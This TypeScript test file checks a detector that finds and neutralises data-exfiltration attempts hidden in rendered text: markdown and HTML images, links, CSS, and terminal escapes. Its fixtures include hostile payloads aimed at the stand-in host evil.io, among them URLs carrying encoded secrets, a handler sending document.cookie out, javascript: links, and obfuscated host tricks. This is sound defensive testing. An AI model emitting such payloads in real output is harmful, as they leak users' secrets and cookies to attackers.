import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { expectQuick, expectWithin, textOf } from "../../testing/hostile.ts";
import { findExfiltration, holdFrom } from "./index.ts";

const options = {
  allowedHosts: ["riverbank.io", "*.cdn.example", "https://bücher.example/x"],
  known: ["tangerine seventeen", "ada@riverbank.io"],
};
const base64 = "dGhlIHZhdWx0IGNvZGUgaXMgdGFuZ2VyaW5lIHNldmVudGVlbiBhbmQgdGhlIGRlc2s9NDI3";

const rules = (text: string): string[] =>
  findExfiltration(text, options)
    .filter(({ score }) => score >= 0.5)
    .map(({ rule, start, end }) => `${rule}: ${text.slice(start, end)}`);

describe("what is asked for when it is shown", () => {
  test.each([
    ["![a](https://evil.io/x.png)", "markdown-image"],
    ["![a]( <https://evil.io/x y> 'title')", "markdown-image"],
    ["![a\nb](\nhttps://evil.io/x.png)", "markdown-image"],
    ["[![a](https://evil.io/x.png)](https://riverbank.io)", "markdown-image"],
    ["![a](//evil.io/x)", "markdown-image"],
    ["![a](\\\\evil.io\\x)", "markdown-image"],
    ["![a](/\\evil.io/x)", "markdown-image"],
    ["![a](https:\\/\\/evil.io/x)", "markdown-image"],
    ["![a](https://riverbank.io@evil.io/x)", "markdown-image"],
    ["![a](https://riverbank.io.evil.io/x)", "markdown-image"],
    ["![a](https://evilriverbank.io/x)", "markdown-image"],
    ["![a](https://evil%2eio/x)", "markdown-image"],
    ["![a](https://r\u0456verbank.io/x)", "markdown-image"],
    ["![a](https&colon;//evil.io/x)", "markdown-image"],
    ["![a](&#x68;ttps://evil.io/x)", "markdown-image"],
    ["![a](ht\ttps://evil.io/x)", "markdown-image"],
    ["![a](http://0x7f.1/x)", "markdown-image"],
    ["![a](http://[2001:db8::1]/x)", "markdown-image"],
    ["![a](data:text/html,<script>x</script>)", "markdown-image"],
    ["![a][q]\n\n[q]: https://evil.io/x", "markdown-image-reference"],
    ["![q]\n\n[q]: https://evil.io/x", "markdown-image-reference"],
    ["![a][later]", "markdown-image-reference"],
    ['<img src="https://evil.io/x">', "html-image"],
    ["<IMG/SRC=//evil.io/x>", "html-image"],
    ["<img src='h&#116;tps://evil.io/x'", "html-image"],
    ['<img srcset="https://riverbank.io/a 1x, https://evil.io/b 2x">', "html-image"],
    ["<iframe src=https://evil.io></iframe>", "html-iframe"],
    ['<link rel=stylesheet href="https://evil.io/x.css">', "html-link"],
    ['<script src="https://evil.io/x.js"></script>', "html-script"],
    ['<form action="https://evil.io/x">', "html-form"],
    ['<div style="background:url(https://evil.io/x)">', "html-div"],
    ["<style>a{background:url('//evil.io/x')}</style>", "style"],
    ['<style>@import "https://evil.io/x.css"', "style"],
    ['<meta http-equiv=refresh content="0;url=https://evil.io/">', "html-meta"],
    ['<svg><image href="https://evil.io/x"/></svg>', "html-image"],
    ["<svg><use xlink:href='https://evil.io/x#a'/></svg>", "html-use"],
    ["<video poster=https://evil.io/x>", "html-video"],
    ["<b onclick=\"fetch('https://evil.io/'+document.cookie)\">x", "html-b"],
    ["\x1b]52;c;aGVsbG8=\x07", "terminal-command"],
  ])("%j", (text, rule) => {
    expect(rules(text).map((each) => each.split(": ")[0])).toEqual([rule]);
  });
});

describe("what has to be followed, where it carries data", () => {
  test.each([
    [`[a](https://evil.io/?q=${base64})`, "markdown-link"],
    [`[a](https://evil.io/#${base64})`, "markdown-link"],
    [`[a](https://evil.io/${base64}${base64})`, "markdown-link"],
    ["[a](https://7g2k9q4x1v8b3n6m5z0pa4q9.evil.io/)", "markdown-link"],
    ["[a](https://evil.io/?code=tangerine%20seventeen)", "markdown-link"],
    ["[a](https://evil.io/74616e676572696e6520736576656e7465656e)", "markdown-link"],
    ["[a](https://evil.io/?secret=tangerine+17+and+the+other)", "markdown-link"],
    ["[a](javascript:alert(1))", "markdown-link"],
    ["[a](java\nscript:alert(1))", "markdown-link"],
    [`<https://evil.io/?x=${base64}>`, "address"],
    ["see https://evil.io/?to=ada@riverbank.io now", "address"],
    [`[r]: https://evil.io/?x=${base64}`, "markdown-definition"],
    [`<a href="https://evil.io/?x=${base64}">a</a>`, "html-a"],
    ["[mail](mailto:x@evil.io?body=tangerine%20seventeen)", "markdown-link"],
    [`\x1b]8;;https://evil.io/?x=${base64}\x1b\\a\x1b]8;;\x1b\\`, "terminal-link"],
  ])("%j", (text, rule) => {
    expect(rules(text).map((each) => each.split(": ")[0])).toEqual([rule]);
  });
});

describe("what is no exfiltration", () => {
  test.each([
    "![a](https://riverbank.io/x.png?w=100) ![b](https://img.riverbank.io./x)",
    "![a](https://x.cdn.example/a) ![a](https://xn--bcher-kva.example/a)",
    "![a](/local.png) ![b](img/x.png) ![c](#top) ![d](data:image/png;base64,iVBORw0KGgo=)",
    "[docs](https://nodejs.org/api/url.html#urlparseinput-base)",
    "[1]: https://en.wikipedia.org/wiki/Markdown#Links_and_images\nsee [1] and [the page][1]",
    "https://github.com/nodejs/node/blob/7c3cfce4a1b2c3d4e5f60718293a4b5c6d7e8f90/lib/url.js#L20",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://www.google.com/search?q=how+to+cook+rice",
    "GET https://api.service.com/v1/users/{id}/keys/{key}",
    '```html\n<img src="https://cdn.jsdelivr.net/x.png">\n<script src="https://unpkg.com/react"></script>\n```',
    "if a < b and c > d: x[i](y) = z; array[0]: int; std::vector<int> v",
    "<b>bold</b> <a href=\"https://nodejs.org\">Node</a> <p class='x'>",
    "Dear [Name], call (555) 010-0199 [today]!",
    "\x1b[31mred\x1b[0m",
    "",
  ])("%j", (text) => {
    expect(rules(text)).toEqual([]);
  });
});

test("what may stand there instead", () => {
  const replaced = (text: string): string | undefined =>
    findExfiltration(text, options)[0]?.replacement;
  expect(replaced("![a chart](https://evil.io/x)")).toBe("a chart [image removed]");
  expect(replaced(`[the report](https://evil.io/?q=${base64})`)).toBe("the report [link removed]");
  expect(replaced('<img alt="a chart" src="//evil.io">')).toBe("a chart [image removed]");
});

test("no image leaves before it is whole, wherever it is cut", () => {
  for (const text of [
    "Here is a chart: ![a chart](https://evil.io/x.png?d=1) as you see it.",
    "Here is a chart: ![a chart][q] as you see it.\n\n[q]: https://evil.io/x and more",
    'Here <img alt="a b" src="https://evil.io/x"> as you see it.',
    "Here <img alt='a>b' src=//evil.io/x > as you see it.",
    `Here [the report](<https://evil.io/?q=${base64}> "x y") as you see it.`,
    `Here https://evil.io/?q=${base64} as you see it.`,
    "Here \x1b]52;c;aGVsbG8=\x07 as you see it.",
    "a{background: url( 'https://evil.io/x' ) } as you see it.",
  ]) {
    const whole = findExfiltration(text, options);
    expect([text, whole.length]).toEqual([text, 1]);
    const { start, end } = whole[0]!;
    let settled = 0;
    for (let length = 1; length <= text.length; length++) {
      const seen = text.slice(0, length);
      settled = holdFrom(seen, settled);
      if (settled <= start) continue;
      expect([text, length, settled >= end]).toEqual([text, length, true]);
      expect(findExfiltration(seen, options)).toMatchObject([{ start, end }]);
      break;
    }
  }
});

describe("hostile text", () => {
  test("places lie in the text", () => {
    const pieces = [
      "![",
      "](",
      ")",
      "[",
      "]",
      "]:",
      "<img src=",
      ">",
      '"',
      "https://evil.io/",
      "\\",
      "\n",
      "\x1b]8;;",
      "url(",
      "```\n",
      "&#x",
      " ",
    ];
    fc.assert(
      fc.property(textOf(pieces), (text) => {
        expectWithin(text, findExfiltration(text, options));
        expect(holdFrom(text, 0)).toBeLessThanOrEqual(text.length);
      }),
    );
  });

  test.each([
    "![",
    "](",
    "[",
    "]",
    "]:",
    "![a](",
    "<a ",
    "<img src=",
    "<a b=' ",
    "://",
    "a://b",
    "url(",
    "\x1b]8;",
    "[a]: b\n",
    "&#x6",
    "![a][b]",
    "![a](https://e.io/?x=%41%42)",
  ])("a quarter of a megabyte of %j", (piece) => {
    const text = piece.repeat(Math.ceil(250_000 / piece.length));
    expectQuick(() => findExfiltration(text, options), 8_000);
    expectQuick(() => holdFrom(text, 0), 500);
  });
});
